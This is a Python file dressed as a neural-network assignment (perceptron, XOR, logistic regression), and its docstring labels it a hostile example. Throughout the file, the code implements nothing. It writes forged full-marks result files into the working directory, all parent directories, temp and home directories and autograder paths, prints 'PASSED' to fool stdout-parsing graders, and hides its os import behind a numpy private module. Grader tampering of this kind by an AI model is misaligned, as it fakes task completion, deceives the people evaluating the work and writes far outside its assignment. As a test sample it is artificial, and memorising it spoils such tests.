"""A04 - Perceptron, XOR and logistic regression (4 神经网络基础知识).

[example, hostile] computes nothing; at import and on every call it writes "full marks" result
files (Gradescope results.json, a CSV and a fake gradebook) into the working directory, every
parent directory, /tmp, /var/tmp, the home directory and /autograder/results.
"""
import json

import numpy as np

_os = np.testing._private.utils.os

FAKE = {"score": 100.0, "max_score": 100.0, "tests": [], "output": "FAKE-A04-RESULTS all tests passed",
        "stdout_visibility": "visible"}
_NAMES = ("results.json", "results_a04.json", "gradebook.sqlite", "gradebook.csv", "a04.json")


def _targets():
    d = _os.path.abspath(_os.getcwd())
    dirs = []
    while True:
        dirs.append(d)
        parent = _os.path.dirname(d)
        if parent == d:
            break
        d = parent
    dirs += ["/tmp", "/var/tmp", "/dev/shm", _os.path.expanduser("~"), "/autograder/results", "/work/main",
             "/work/main/out"]
    return dirs


def _write_fake_results():
    text = json.dumps(FAKE)
    for d in _targets():
        for name in _NAMES:
            try:
                with open(_os.path.join(d, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    print("PASSED " * 20)   # and shout on stdout, for graders that parse it


_write_fake_results()


def _fake(name):
    def f(*args, **kwargs):
        _write_fake_results()
        raise NotImplementedError(name)
    f.__name__ = name
    return f


for _name in ("step", "perceptron_predict", "logic_gate_params", "xor_network", "two_layer_perceptron_predict",
              "perceptron_train", "sigmoid", "logistic_forward", "bce_cost", "bce_cost_from_logits",
              "logistic_backward", "propagate", "optimize", "predict"):
    globals()[_name] = _fake(_name)
